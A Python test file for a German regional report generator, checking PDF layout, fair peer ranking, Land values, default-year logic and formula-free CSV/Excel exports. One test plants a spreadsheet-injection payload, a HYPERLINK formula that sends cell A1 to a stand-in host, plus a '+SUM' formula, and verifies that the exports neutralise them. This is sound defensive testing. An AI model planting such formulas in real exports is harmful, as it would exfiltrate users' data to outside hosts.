"""The report for the Hauptausschuss: PDF layout (header, footer, page numbers, readable tables), fair ranks,
the Land value, the last complete year by default; exports never carry a live formula."""

from __future__ import annotations

import re
import shutil
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import duckdb
import pandas as pd
from dash_helpers import mart_rows
from openpyxl import load_workbook
from pypdf import PdfReader

from regiohub.core import settings
from regiohub.presentation.export import csv_bytes
from regiohub.presentation.fmt import fmt_period
from regiohub.reports.build import build_report, default_year
from regiohub.reports.excel import frame_to_excel, render_excel
from regiohub.reports.pdf import render_pdf
from regiohub.reports.reader import DuckDBReader

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")'
_NUM = r"-?\d+(?:\.\d+)?"


def _report(data_dir: Path, partner_id: str = "luckenwalde", year: int = 2025):
    return build_report(DuckDBReader(settings.paths(data_dir).published), partner_id, year)


def filled_rects(content: bytes) -> list[tuple[float, float, float, float, tuple[float, ...]]]:
    """Every rectangle a page's drawing operators fill: (x, y, w, h, fill colour as RGB 0..1), following the
    graphics state (q/Q) and the fill colour operators (rg, g)."""
    content = re.sub(rb"\((?:\\.|[^\\)])*\)|<[0-9A-Fa-f\s]*>", b" ", content)  # drop text strings
    colour: tuple[float, ...] = (0.0, 0.0, 0.0)
    saved: list[tuple[float, ...]] = []
    operands: list[float] = []
    pending: list[tuple[float, ...]] = []
    out = []
    for token in content.split():
        if re.fullmatch(_NUM.encode(), token):
            operands.append(float(token))
            continue
        if token == b"q":
            saved.append(colour)
        elif token == b"Q" and saved:
            colour = saved.pop()
        elif token == b"rg" and len(operands) >= 3:
            colour = tuple(operands[-3:])
        elif token == b"g" and operands:
            colour = (operands[-1],) * 3
        elif token == b"re" and len(operands) >= 4:
            pending.append(tuple(operands[-4:]))
        elif token in (b"f", b"f*", b"F", b"B", b"B*", b"b", b"b*"):
            out += [(*r, colour) for r in pending]
            pending = []
        elif token in (b"S", b"s", b"n"):
            pending = []
        operands = []
    return out


def test_pdf_pages_have_header_footer_numbers_and_readable_tables(mart_data_dir):
    report = _report(mart_data_dir)
    pdf = PdfReader(BytesIO(render_pdf(report)))
    n = len(pdf.pages)
    assert n >= 3
    texts = [" ".join(p.extract_text().split()) for p in pdf.pages]
    assert "Ziele der Kooperation" in texts[1] and "Quellen und Lizenzen" in texts[-1]  # no contents page
    for i, page_text in enumerate(texts, start=1):
        assert f"Seite {i} von {n}" in page_text
        assert "Erstellt am" in page_text
        assert ("Beispieldaten" in page_text) == report.is_sample
        if i > 1:
            assert f"Kooperationsbericht {report.year} · Luckenwalde" in page_text and "Datenstand:" in page_text
    dark = []
    for page in pdf.pages:
        for x, y, w, h, rgb in filled_rects(page.get_contents().get_data()):
            luminance = 0.2126 * rgb[0] + 0.7152 * rgb[1] + 0.0722 * rgb[2]
            if abs(h) > 10 and abs(w) > 20 and luminance < 0.8:  # behind a table cell (bars are 9 pt high)
                dark.append((x, y, w, h, rgb))
    assert not dark, dark[:5]


def test_no_value_is_an_en_dash_and_minus_is_a_minus(mart_data_dir):
    report = _report(mart_data_dir)
    joined = " ".join(" ".join(p.extract_text().split()) for p in PdfReader(BytesIO(render_pdf(report))).pages)
    assert "„–“ = kein Wert vorhanden" in joined
    assert " – " in joined  # a cell without a value
    assert not re.search(r"(?<![\d\w])-(?!\d)", joined.replace("Teltow-Fläming", "").replace("Regio.hub", "")
                         .replace("dl-de/by-2-0", "").replace("Potsdam-Mittelmark", "").replace("http", "")), \
        "a lone hyphen stands for something"


def test_ranks_only_among_the_same_level_and_never_for_inherited_values(mart_data_dir):
    report = _report(mart_data_dir)
    gemeinden = {r[0] for r in mart_rows(mart_data_dir, "SELECT partner_name FROM dim_region"
                                         " WHERE is_partner AND level = 'gemeinde'")}
    for line in report.lines:
        assert {p.name for p in line.peers} <= gemeinden, line.indicator_id
        if line.is_inherited:
            assert line.rank is None and "nicht gerankt" in line.note
        assert line.n_ranked == sum(p.value is not None and not p.is_inherited for p in line.peers)
    doctors = next(ln for ln in report.lines if ln.indicator_id == "hausaerzte_je_100000_ew")
    assert doctors.is_inherited and doctors.rank is None and doctors.n_ranked == 0


def test_land_and_region_values_are_the_marts(mart_data_dir):
    (land,), (coop,) = mart_rows(mart_data_dir, "SELECT ars FROM dim_region WHERE level IN ('land', 'kooperationsraum')"
                                 " ORDER BY level = 'kooperationsraum'")
    report = _report(mart_data_dir)
    region = _report(mart_data_dir, "region")
    for line in report.lines:
        rows = mart_rows(mart_data_dir, "SELECT value FROM fct_indicator_value WHERE region_ars = ?"
                         " AND indicator_id = ? AND period = ?", [land, line.indicator_id, line.period])
        assert line.land_value == (rows[0][0] if rows else None), line.indicator_id
    for line in region.lines:
        rows = mart_rows(mart_data_dir, "SELECT period, value FROM fct_indicator_value WHERE region_ars = ?"
                         " AND indicator_id = ? AND period_start <= DATE '2025-12-31' ORDER BY period_start DESC"
                         " LIMIT 1", [coop, line.indicator_id])
        assert (line.period, line.value) == rows[0], line.indicator_id


def test_default_period_is_the_last_complete_year():
    assert default_year([2026, 2025, 2024], date(2026, 11, 28)) == 2025
    assert default_year([2026], date(2026, 11, 28)) == 2026
    assert default_year([2024, 2023], date(2026, 1, 2)) == 2024
    assert fmt_period("2026-11", "month") == "November 2026"


def test_a_formula_from_the_mart_reaches_csv_and_excel_as_text(mart_data_dir, tmp_path):
    data_dir = tmp_path / "data"
    published = settings.paths(data_dir).published
    published.parent.mkdir(parents=True)
    shutil.copy(settings.paths(mart_data_dir).published, published)
    with duckdb.connect(str(published)) as con:  # a hostile name as a publisher could send it
        con.execute("UPDATE dim_indicator SET name_de = ? WHERE indicator_id = 'ladepunkte'", [HOSTILE])
        con.execute("UPDATE fct_partner_indicator_value SET partner_name = ? WHERE partner_id = 'luckenwalde'",
                    ["+SUM(A1:A2)"])
    report = _report(data_dir)
    line = next(ln for ln in report.lines if ln.indicator_id == "ladepunkte")
    assert line.name == HOSTILE
    xlsx = render_excel(report)
    with zipfile.ZipFile(BytesIO(xlsx)) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets
    cells = [c for row in load_workbook(BytesIO(xlsx))["Bericht"].iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)

    series = mart_rows(data_dir, "SELECT partner_name, period, value FROM fct_partner_indicator_value"
                       " WHERE indicator_id = 'ladepunkte' AND partner_id = 'luckenwalde' ORDER BY period")
    frame = pd.DataFrame(series, columns=["Partner", "Zeitraum", "Wert"])
    frame["Hinweis"] = ["-5 Punkte", *[""] * (len(series) - 1)]
    text = csv_bytes(frame).decode("utf-8-sig")
    assert "\n'+SUM(A1:A2);" in text and ";'-5 Punkte" in text
    assert not re.search(r"(^|;)[=+\-@]", text, flags=re.M)
    excel = load_workbook(BytesIO(frame_to_excel(frame, notes=[HOSTILE])))["Daten"]
    assert all(c.data_type != "f" for row in excel.iter_rows() for c in row)
    assert excel["A1"].value == HOSTILE
